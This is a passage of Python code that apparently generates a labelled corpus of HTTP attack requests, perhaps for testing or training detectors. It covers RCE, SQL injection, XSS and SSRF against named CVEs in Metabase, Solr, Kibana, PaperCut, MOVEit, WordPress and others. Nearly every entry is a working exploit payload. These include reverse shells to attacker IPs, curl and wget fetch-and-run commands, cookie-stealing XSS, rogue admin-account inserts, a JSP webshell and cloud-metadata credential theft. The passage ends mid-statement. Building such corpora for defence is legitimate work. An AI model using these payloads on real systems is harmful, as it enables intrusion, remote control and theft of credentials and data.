    o.add("java", "metabase-cve-2023-38646", "POST", "metabase.example.com", "/api/setup/validate",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"token": uuid(rng), "details": {"is_on_demand": False, "is_full_sync": False, "is_sample": False, "cache_ttl": None, "refingerprint": False, "auto_run_queries": True, "schedules": {},
                 "details": {"db": "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER pwnshell BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ==}|{base64,-d}|{bash,-i}')\n$$--=x", "advanced-options": False, "ssl": True},
                 "name": "an-sqli-test", "engine": "h2"}}))
    # Apache Druid CVE-2021-25646
    o.add("java", "druid-cve-2021-25646", "POST", "druid.example.com:8888", "/druid/indexer/v1/sampler?for=filter",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"type": "index", "spec": {"ioConfig": {"type": "index", "firehose": {"type": "local", "baseDir": "/etc", "filter": "passwd"}},
                 "dataSchema": {"dataSource": "test", "parser": {"parseSpec": {"format": "javascript", "timestampSpec": {}, "dimensionsSpec": {},
                 "function": "function(){var a = new java.util.Scanner(java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"id\"]).getInputStream()).useDelimiter(\"\\\\A\").next();return {timestamp:123123,test: a}}",
                 "": {"enabled": "true"}}}}}, "samplerConfig": {"numRows": 10}}))
    # Elasticsearch dynamic scripting
    o.add("java", "es-cve-2014-3120", "POST", th(rng, "elastic"), "/_search?pretty",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
                 "script_fields": {"command": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}))
    o.add("java", "es-cve-2015-1427", "POST", th(rng, "elastic"), "/website/_search",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          jdump({"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\").getText()"}}}))
    # Solr
    o.add("java", "solr-cve-2019-17558", "POST", th(rng, "solr"), "/solr/products/config",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"update-queryresponsewriter": {"startup": "lazy", "name": "velocity", "class": "solr.VelocityResponseWriter",
                 "template.base.dir": "", "solr.resource.loader.enabled": "true", "params.resource.loader.enabled": "true"}}))
    o.add("ssti", "solr-cve-2019-17558", "GET", th(rng, "solr"),
          "/solr/products/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x.class.forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()+%23set($out=$ex.getInputStream())+%23foreach($i+in+[1..$out.available()])$str.valueOf($chr.toChars($out.read()))%23end",
          atk(rng))
    dih = ('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(row){ var bufReader = new java.io.BufferedReader(new java.io.InputStreamReader(java.lang.Runtime.getRuntime().exec("id").getInputStream())); var result = []; while(true) { var oneline = bufReader.readLine(); result.push( oneline ); if(!oneline) break; } row.put("title",result.join("\\n\\r")); return row; }]]></script>'
           '<document><entity name="stackoverflow" url="https://stackoverflow.com/feeds/tag/solr" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc" /></document></dataConfig>')
    o.add("rce", "solr-cve-2019-0193", "POST", th(rng, "solr"), "/solr/core1/dataimport?_=%d&indent=on&wt=json" % rng.randint(1500000000000, 1600000000000),
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("X-Requested-With", "XMLHttpRequest")]),
          form([("command", "full-import"), ("verbose", "false"), ("clean", "false"), ("commit", "true"), ("debug", "true"),
                ("core", "core1"), ("dataConfig", dih), ("name", "dataimport")]))
    o.add("ssrf", "solr-cve-2021-27905", "GET", th(rng, "solr"),
          "/solr/products/replication?command=fetchindex&masterUrl=http://169.254.169.254/latest/meta-data/&wt=json", atk(rng))
    # Kibana Timelion prototype pollution (CVE-2019-7609)
    o.add("generic", "kibana-cve-2019-7609", "POST", "kibana.example.com", "/api/timelion/run",
          atk(rng, [("Content-Type", "application/json;charset=utf-8"), ("kbn-version", "6.5.4"), ("kbn-xsrf", "true")]),
          jdump({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& /dev/tcp/%s/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')" % evil_ip(rng)],
                 "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "10s", "timezone": "Europe/Berlin"}}))
    # Nacos
    o.add("generic", "nacos-cve-2021-29441", "GET", "nacos.example.com:8848", "/nacos/v1/auth/users?pageNo=1&pageSize=9",
          [["User-Agent", "Nacos-Server"], ["Accept", "*/*"]])
    o.add("sqli", "nacos-derby", "GET", "nacos.example.com:8848", "/nacos/v1/cs/ops/derby?sql=select+*+from+users+", atk(rng))
    ct, b = multipart(rng, [("file", "file", "application/octet-stream",
                             "CALL sqlj.install_jar('http://%s/exp.jar', 'NACOS.%s', 0)\n\n\n\nCALL SYSCS_UTIL.SYSCS_SET_DATABASE_PROPERTY('derby.database.classpath','NACOS.%s')" % (evil_ip(rng), alnum(rng, 8), alnum(rng, 8)))])
    o.add("sqli", "nacos-derby", "POST", "nacos.example.com:8848", "/nacos/v1/cs/ops/data/removal", atk(rng, [("Content-Type", ct)]), b)
    # PaperCut CVE-2023-27350
    o.add("generic", "papercut-cve-2023-27350", "GET", "print.example.com:9191", "/app?service=page/SetupCompleted", atk(rng))
    o.add("rce", "papercut-cve-2023-27350", "POST", "print.example.com:9191", "/app",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "JSESSIONID=node0%s.node0" % alnum(rng, 26).lower())]),
          form([("service", "direct/1/PrinterDetails/$PrinterDetailsScript.$Form"), ("sp", "S0"),
                ("Form0", "printerId,enablePrintScript,scriptBody,$Submit,$Submit$0,$Submit$1"), ("printerId", "l1001"),
                ("enablePrintScript", "on"),
                ("scriptBody", "function printJobHook(inputs, actions) {}\r\njava.lang.Runtime.getRuntime().exec('cmd.exe /c powershell -enc %s');" % b64("IEX(New-Object Net.WebClient).DownloadString('http://%s/p.ps1')" % evil_ip(rng))),
                ("$Submit$1", "Apply")]))


# ---- command injection / RCE in appliances and infra -----------------------

def a_rce(o):
    rng = R("rce")
    # Shellshock (CVE-2014-6271 / 6278)
    ss = [("User-Agent", "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'"),
          ("Referer", '() { :;}; /bin/bash -c "wget http://%s/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b"' % evil_ip(rng)),
          ("Cookie", "() { ignored; }; /bin/ping -c 1 %s" % oast(rng)),
          ("User-Agent", "() { _; } >_[$($())] { echo Content-Type: text/plain; echo; id; }")]
    paths = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-sys/entropysearch.cgi", "/cgi-mod/index.cgi", "/cgi-bin/admin.cgi",
             "/cgi-bin/printenv", "/cgi-bin/php5"]
    for (hn, hv), p in zip(ss, paths):
        if hn == "User-Agent":
            o.add("rce", "shellshock", "GET", th(rng, "httpd"), p, atk(rng, ua=hv))
        elif hn == "Accept":
            o.add("rce", "shellshock", "GET", th(rng, "httpd"), p, atk(rng, accept=hv))
        else:
            o.add("rce", "shellshock", "GET", th(rng, "httpd"), p, atk(rng, [(hn, hv)]))
    # ImageMagick / GhostScript uploads
    uploads = [
        ("avatar.png", "image/png", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"http://%s/$(id|base64))'\npop graphic-context\n" % oast(rng)),
        ("image.mvg", "image/png", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n"),
        ("logo.svg", "image/svg+xml", '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg width="640px" height="480px" version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://example.com/image.jpg&quot;|ls &quot;-la" x="0" y="0" height="640px" width="480px"/></svg>\n'),
        ("scan.eps", "application/postscript", "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%id > /tmp/pwned) currentdevice putdeviceprops\n"),
        ("invoice.pdf", "application/pdf", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n/OutputFile (%pipe%bash -c 'bash -i >& /dev/tcp/" + evil_ip(rng) + "/4444 0>&1') def\n(|curl -s http://x.example/" + alnum(rng, 6) + ") (w) file\nquit\n"),
    ]
    targets = [("gitlab", "/uploads/user"), ("wordpress", "/wp-admin/async-upload.php"), ("confluence", "/plugins/drag-and-drop/upload.action?pageId=%d&filename=logo.svg&size=410&mimeType=image%%2Fsvg%%2Bxml" % rng.randint(100000, 999999)),
               ("php", "/admin/catalog/product_gallery/upload"), ("misc", "/api/v1/documents/convert")]
    for (fn, ctp, content), (kind, path) in zip(uploads, targets):
        cat = "lfi" if "label:@" in content else "rce"
        ct, b = multipart(rng, [("file", fn, ctp, content)])
        o.add(cat, "imagemagick-ghostscript", "POST", th(rng, kind), path, atk(rng, [("Content-Type", ct)]), b)
    png = ("\u0089PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\u0090wS\u00de"
           "\x00\x00\x00\x14tEXtprofile\x00/etc/passwd\u00e3\u0080\x1fw\x00\x00\x00\x0cIDATx\u009cc\u00f8\u00ff\u00ff?\x00\x05\u00fe\x02\u00fe\u00a75\u0081\u0084\x00\x00\x00\x00IEND\u00aeB`\u0082")
    ct, b = multipart(rng, [("image", "pwn.png", "image/png", png)])
    o.add("lfi", "imagemagick-cve-2022-44268", "POST", th(rng, "misc"), "/api/v2/profile/avatar", atk(rng, [("Content-Type", ct)]), b)
    # Cacti CVE-2022-46169
    o.add("rce", "cacti-cve-2022-46169", "GET", "cacti.example.com",
          "/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bcurl%20http%3A%2F%2F" + evil_ip(rng) + "%2Fc.sh%7Csh",
          atk(rng, [("X-Forwarded-For", "127.0.0.1")]))
    # Zyxel CVE-2022-30525
    o.add("rce", "zyxel-cve-2022-30525", "POST", "fw.example.com", "/ztp/cgi-bin/handler",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1", "vlanid": "5",
                 "mtu": "; bash -c 'exec bash -i &>/dev/tcp/%s/4444 <&1';" % evil_ip(rng), "data": "hi"}))
    # Palo Alto CVE-2024-3400
    o.add("rce", "panos-cve-2024-3400", "POST", th(rng, "pulse"), "/ssl-vpn/hipreport.esp",
          atk(rng, [("Cookie", "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}%s?user=$(whoami)`" % oast(rng)),
                    ("Content-Type", "application/x-www-form-urlencoded")]), "")
    # APISIX CVE-2022-24112
    o.add("rce", "apisix-cve-2022-24112", "POST", "apisix-gateway.ingress.example.com", "/apisix/batch-requests",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"headers": {"X-Real-IP": "127.0.0.1", "X-API-KEY": "edd1c9f034335f136f87ad84b625c8f1", "Content-Type": "application/json"},
                 "timeout": 1500, "pipeline": [{"path": "/apisix/admin/routes/index", "method": "PUT",
                 "body": jdump({"uri": "/rce", "upstream": {"type": "roundrobin", "nodes": {"httpbin.org:80": 1}},
                                "filter_func": "function(vars) os.execute('bash -c \"0<&160-;exec 160<>/dev/tcp/%s/4242;sh <&160 >&160 2>&160\"'); return true end" % evil_ip(rng)})}]}))
    # ingress-nginx admission (CVE-2025-1974 family)
    o.add("rce", "ingress-nginx-cve-2025-1974", "POST", "ingress-nginx-controller-admission.ingress-nginx.svc:443", "/networking/v1/ingresses",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": {"uid": uuid(rng), "kind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
                 "operation": "CREATE", "object": {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "poc", "namespace": "default",
                 "annotations": {"nginx.ingress.kubernetes.io/auth-url": "http://example.com/#;\n}\n}\n}\nssl_engine /proc/1/fd/50;\n#"}},
                 "spec": {"ingressClassName": "nginx", "rules": [{"host": "poc.example.com", "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "x", "port": {"number": 80}}}}]}}]}}}}))
    # kubelet / Docker / Consul / YARN exposed APIs
    o.add("rce", "kubelet-run", "POST", "10.0.12.7:10250", "/run/kube-system/coredns-5d78c9869d-%s/coredns" % alnum(rng, 5).lower(),
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token")
    o.add("rce", "docker-api", "POST", "10.0.12.9:2375", "/containers/create?name=%s" % alnum(rng, 8).lower(),
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"Image": "alpine:latest", "Cmd": ["/bin/sh", "-c", "chroot /host sh -c 'curl -s http://%s/d.sh | sh'" % evil_ip(rng)],
                 "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "NetworkMode": "host"}}))
    o.add("rce", "consul-service-check", "PUT", "consul.service.consul:8500", "/v1/agent/service/register",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"ID": alnum(rng, 6), "Name": alnum(rng, 6), "Address": "127.0.0.1", "Port": 80,
                 "Check": {"Args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/%s/443 0>&1" % evil_ip(rng)], "Interval": "10s", "Timeout": "86400s"}}))
    o.add("rce", "hadoop-yarn", "POST", "yarn-rm.example.com:8088", "/ws/v1/cluster/apps",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"application-id": "application_1714%s_0001" % digits(rng, 9), "application-name": "get-shell",
                 "am-container-spec": {"commands": {"command": "/bin/bash -c 'curl -fsSL http://%s/y.sh | bash'" % evil_ip(rng)}},
                 "application-type": "YARN"}))
    o.add("rce", "mongo-express-cve-2019-10758", "POST", "mongo-express.example.com:8081", "/checkValid",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Authorization", "Basic YWRtaW46cGFzcw==")]),
          "document=this.constructor.constructor(%22return%20process%22)().mainModule.require(%22child_process%22).execSync(%22id%22)")
    o.add("rce", "zimbra-cve-2022-41352", "POST", "mail.example.com", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
          atk(rng, [("Content-Type", "application/octet-stream")]),
          "PK\x03\x04\x14\x00\x00\x00\x08\x00" + alnum(rng, 16) + "../../../../mailboxd/webapps/zimbraAdmin/%s.jsp" % alnum(rng, 6)
          + '<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("pass")).getInputStream()).useDelimiter("\\\\A").next()); %>')


# ---- SQL injection --------------------------------------------------------

def a_sqli(o):
    rng = R("sqli")
    o.add("sqli", "ivanti-epm-cve-2024-29824", "POST", "epm.example.com", "/WSStatusEvents/EventHandler.asmx",
          atk(rng, [("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", '"http://tempuri.org/RecordGoodApp"')]),
          '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><UpdateStatusEvents xmlns="http://tempuri.org/"><deviceID>string</deviceID><actionCode>1</actionCode><message>%s</message><runNumber>1</runNumber></UpdateStatusEvents></soap:Body></soap:Envelope>'
          % "'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'nslookup %s'--" % oast(rng))
    o.add("sqli", "moveit-cve-2023-34362", "POST", "transfer.example.com", "/moveitisapi/moveitisapi.dll?action=m2",
          atk(rng, [("X-siLock-Transaction", "folder_add_by_path"), ("X-siLock-SessVar0", "MyUsername: Guest"),
                    ("X-siLock-SessVar1", "MyPkgAccessCode: 123"), ("X-siLock-SessVar2", "MyPkgID: 0"),
                    ("X-siLock-SessVar3", "MyGuestEmailAddr: %s@mail.ru" % alnum(rng, 8).lower()),
                    ("X-siLock-SessVar4", "MyPkgInstID: 1234'); UPDATE users SET Permission=30 WHERE Username='sysadmin';--"),
                    ("Content-Type", "application/x-www-form-urlencoded")]), "")
    o.add("sqli", "moveit-cve-2023-34362", "POST", "transfer.example.com", "/guestaccess.aspx",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "siLockLongTermInstID=1234; ASP.NET_SessionId=%s" % alnum(rng, 24).lower())]),
          form([("transaction", "secmsgpost"), ("Arg06", "123"), ("Arg12", "promptaccesscode"), ("Arg05", "send"),
                ("InstID", "1234"), ("csrftoken", hexs(rng, 40)),
                ("Arg04", "x' UNION SELECT 1,Username,Password,4,5,6 FROM users WHERE Permission>=30--")]))
    o.add("sqli", "joomla-cve-2017-8917", "GET", th(rng, "php"),
          "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)", atk(rng))
    o.add("sqli", "joomla-cve-2015-7297", "GET", th(rng, "php"),
          "/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(select%201%20from%20(select%20count(*),concat((select%20(select%20concat(password))%20from%20%23__users%20LIMIT%200,1),floor(rand(0)*2))x%20from%20information_schema.tables%20group%20by%20x)a)",
          atk(rng))
    o.add("sqli", "drupalgeddon1", "POST", th(rng, "drupal"), "/?q=node&destination=node",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "pass=lol&form_build_id=&form_id=user_login_block&op=Log+in&name[0%20or%20updatexml(0x23,concat(1,md5(1)),1)%23%20]=bob&name[0]=a")
    sql = ("popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);SET @SALT = 'rp';SET @PASS = CONCAT(MD5(CONCAT( @SALT , 'forme') ), CONCAT(':', @SALT ));"
           "SELECT @EXTRA := MAX(extra) FROM admin_user WHERE extra IS NOT NULL;INSERT INTO `admin_user` (`firstname`, `lastname`,`email`,`username`,`password`,`created`,`lognum`,`reload_acl_flag`,`is_active`,`extra`,`rp_token`,`rp_token_created_at`) "
           "VALUES ('Firstname','Lastname','email@example.com','forme',@PASS,NOW(),0,0,1,@EXTRA,NULL, NOW());INSERT INTO `admin_role` (parent_id,tree_level,sort_order,role_type,user_id,role_name) VALUES (1,2,0,'U',(SELECT user_id FROM admin_user WHERE username = 'forme'),'Firstname');")
    o.add("sqli", "magento-shoplift", "POST", th(rng, "php"),
          "/index.php/admin/Cms_Wysiwyg/directive/index/",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "___directive=e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWQgb3V0cHV0PWdldENzdkZpbGV9fQ&filter=" + Q(b64(sql)) + "&forwarded=1")
    o.add("sqli", "wp-cve-2022-21661", "POST", th(rng, "wordpress"), "/wp-admin/admin-ajax.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("action", "ecsload"),
                ("query", '{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["111) and extractvalue(rand(),concat(0x5e,user(),0x5e))#"]}}}')]))
    o.add("sqli", "wp-fastest-cache-cve-2023-6063", "GET", th(rng, "wordpress"), "/",
          atk(rng, [("Cookie", 'wordpress_logged_in_1=" AND (SELECT 1 FROM (SELECT(SLEEP(5)))A) AND "1"="1')]))
    o.add("sqli", "wp-learnpress-cve-2024-8522", "GET", th(rng, "wordpress"),
          "/wp-json/lp/v1/courses/archive-course?c_only_fields=IF(COUNT(*)!=-2,(SLEEP(5)),0)", atk(rng))
    o.add("sqli", "wp-ultimate-member-cve-2024-1071", "POST", th(rng, "wordpress"), "/wp-admin/admin-ajax.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "action=um_get_members&nonce=%s&directory_id=b9238&sorting=user_login%%2C(SELECT+1+FROM+(SELECT(SLEEP(5)))x)" % hexs(rng, 10))
    o.add("sqli", "wp-automatic-cve-2024-27956", "POST", th(rng, "wordpress"), "/wp-content/plugins/wp-automatic/inc/csv.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "q=" + QP("INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_url, user_registered, user_status, display_name) VALUES ('eviladmin', '$P$BASbMqW0nlZRux/2IhCw7AdvoNI4VT0', 'eviladmin', 'eviladmin@example.com', 'http://example.com', '2024-04-30 16:26:43', 0, 'eviladmin');")
          + "&auth=%00&integ=" + hexs(rng, 32))
    o.add("sqli", "zabbix-cve-2016-10134", "GET", "zabbix.example.com",
          "/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)", atk(rng))
    o.add("sqli", "cacti-cve-2023-39361", "GET", "cacti.example.com",
          "/graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=%22or+%22%22%3D%22%28%28%22%29%29%3BSELECT+SLEEP%285%29%3B--+-", atk(rng))
    o.add("sqli", "grafana-sqlite-ds", "POST", th(rng, "grafana"), "/api/ds/query",
          atk(rng, [("Content-Type", "application/json"), ("Cookie", "grafana_session=%s" % hexs(rng, 32))]),
          jdump({"queries": [{"refId": "A", "datasource": {"uid": "mysql-prod", "type": "mysql"}, "rawSql": "SELECT 1 UNION SELECT group_concat(login,0x3a,password) FROM grafana.user", "format": "table"}],
                 "from": "now-1h", "to": "now"}))
    o.add("sqli", "jira-insight-sqli", "GET", th(rng, "jira"),
          "/rest/insight/1.0/iql/objects?objectSchemaId=1&iql=Name%3D%22a%22%27%29%20OR%201%3D1%20--%20", atk(rng))
    o.add("sqli", "openfire-boolean", "GET", "chat.example.com:9090",
          "/user-properties.jsp?username=admin'+AND+(SELECT+SUBSTRING(password,1,1)+FROM+ofUser+WHERE+username='admin')='a'--", atk(rng))


# ---- XSS ------------------------------------------------------------------

def a_xss(o):
    rng = R("xss")
    o.add("xss", "zimbra-cve-2023-37580", "GET", th(rng, "exchange"),
          "/m/momoveto?st=acg%22%2F%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", atk(rng))
    o.add("xss", "zimbra-cve-2022-27926", "GET", th(rng, "exchange"),
          "/public/launchNewWindow.jsp?skin=ZR%22%3E%3Csvg%2Fonload%3Dalert%28document.cookie%29%3E", atk(rng))
    o.add("xss", "grafana-cve-2021-41174", "GET", th(rng, "grafana"),
          "/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1", atk(rng))
    o.add("xss", "jira-wallboard-cve-2018-20824", "GET", th(rng, "jira"),
          "/plugins/servlet/Wallboard/?dashboardId=10000&dashboardId=10000&cyclePeriod=alert(document.domain)", atk(rng))
    o.add("xss", "jira-portal-search", "GET", th(rng, "jira"),
          "/secure/ConfigurePortalPages!default.jspa?view=search&searchOwnerUserName=%3Cscript%3Ealert(1)%3C%2Fscript%3E&Search=Search", atk(rng))
    o.add("xss", "wordpress-search", "GET", th(rng, "wordpress"),
          "/?s=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", atk(rng))
    o.add("xss", "wordpress-comment", "POST", th(rng, "wordpress"), "/wp-comments-post.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("comment", '<a href="javascript&colon;fetch(\'//%s/c?\'+document.cookie)">see my site</a>' % oast(rng)), ("author", "Mark"),
                ("email", "mark@example.net"), ("url", ""), ("submit", "Post Comment"), ("comment_post_ID", "184"), ("comment_parent", "0")]))
    o.add("xss", "gitlab-note", "POST", th(rng, "gitlab"), "/api/v4/projects/%d/issues/%d/notes" % (rng.randint(10, 999), rng.randint(1, 300)),
          atk(rng, [("Content-Type", "application/json"), ("PRIVATE-TOKEN", "glpat-" + alnum(rng, 20))]),
          jdump({"body": "Screenshot attached <img src=x onerror=\"fetch('//%s/'+document.cookie)\">" % oast(rng)}))
    o.add("xss", "magento-cms-skimmer", "POST", th(rng, "php"), "/admin/cms/block/save/",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("form_key", alnum(rng, 16)), ("title", "Footer links"), ("identifier", "footer_links"), ("is_active", "1"),
                ("content", '<p>Secure checkout</p><script src="https://cdn-jquery.%s/jquery.min.js"></script>' % rng.choice(["top", "xyz", "ru"]))]))
    o.add("xss", "jenkins-build-description", "POST", th(rng, "jenkins"), "/job/deploy/42/submitDescription",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("description", "<img src=x onerror=alert(document.domain)>"), ("Jenkins-Crumb", hexs(rng, 64)), ("Submit", "Save")]))
    ct, b = multipart(rng, [("file", "diagram.svg", "image/svg+xml",
                             '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>')])
    o.add("xss", "confluence-svg-upload", "POST", th(rng, "confluence"),
          "/plugins/drag-and-drop/upload.action?pageId=%d&filename=diagram.svg&size=98&mimeType=image%%2Fsvg%%2Bxml&atl_token=%s" % (rng.randint(100000, 999999), hexs(rng, 40)),
          atk(rng, [("Content-Type", ct)]), b)
    o.add("xss", "polyglot-scan", "GET", th(rng, "misc"),
          "/search?q=jaVasCript%3A%2F*-%2F*%60%2F*%5C%60%2F*%27%2F*%22%2F**%2F(%2F*%20*%2FoNcliCk%3Dalert()%20)%2F%2F%250D%250A%250d%250a%2F%2F%3C%2FstYle%2F%3C%2FtitLe%2F%3C%2FteXtarEa%2F%3C%2FscRipt%2F--!%3E%5Cx3csVg%2F%3CsVg%2FoNloAd%3Dalert()%2F%2F%3E%5Cx3e", atk(rng))
    o.add("xss", "sharepoint-listform", "GET", th(rng, "sharepoint"),
          "/_layouts/15/listform.aspx?PageType=8&ListId=%7B" + uuid(rng).upper() + "%7D&RootFolder=%22%3E%3Ciframe%20src%3Djavascript%3Aalert(1)%3E", atk(rng))
    o.add("xss", "kibana-ssti-xss", "GET", "kibana.example.com",
          "/app/kibana?embed=true&_g=(refreshInterval:(display:Off,pause:!f,value:0),time:(from:now-15m,mode:quick,to:now))&title=%3Cdetails%20open%20ontoggle%3Dalert(1)%3E", atk(rng))
    o.add("xss", "owa-redirect", "GET", th(rng, "exchange"),
          "/owa/auth/logon.aspx?replaceCurrent=1&url=javascript:alert(document.cookie)//", atk(rng))


# ---- SSRF -----------------------------------------------------------------

def a_ssrf(o):
    rng = R("ssrf")
    meta = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://0xA9FEA9FE/latest/user-data",
            "http://0251.0376.0251.0376/latest/meta-data/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261%0A%0A%0A%0D%0A",
            "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"]
    sinks = [
        ("gitlab", "POST", "/api/v4/projects/%d/hooks" % rng.randint(10, 900), lambda u: jdump({"url": u, "push_events": True, "enable_ssl_verification": False})),
        ("jira", "POST", "/rest/webhooks/1.0/webhook", lambda u: jdump({"name": "sync", "url": u, "events": ["jira:issue_created"], "excludeBody": False})),
        ("grafana", "POST", "/api/datasources", lambda u: jdump({"name": "prom-%s" % alnum(rng, 4), "type": "prometheus", "url": u, "access": "proxy", "basicAuth": False})),
        ("misc", "POST", "/api/v1/integrations/webhook/test", lambda u: jdump({"target_url": u, "event": "ping"})),
        ("confluence", "GET", None, lambda u: "/plugins/servlet/gadgets/makeRequest?url=" + u),
        ("misc", "POST", "/api/import/url", lambda u: form([("source_url", u), ("format", "csv")])),
    ]
    for i, u in enumerate(meta):
        kind, method, path, fn = sinks[i % len(sinks)]
        extra = []
        if "metadata.google" in u:
            extra = [("Metadata-Flavor", "Google")]
        if method == "GET":
            o.add("ssrf", "webhook-metadata", "GET", th(rng, kind), fn(u), atk(rng, extra))
        else:
            body = fn(u)
            ctp = "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
            o.add("ssrf", "webhook-metadata", method, th(rng, kind), path, atk(rng, [("Content-Type", ctp)] + extra), body)
    # Grafana avatar (CVE-2020-13379)
    o.add("ssrf", "grafana-cve-2020-13379", "GET", th(rng, "grafana"),
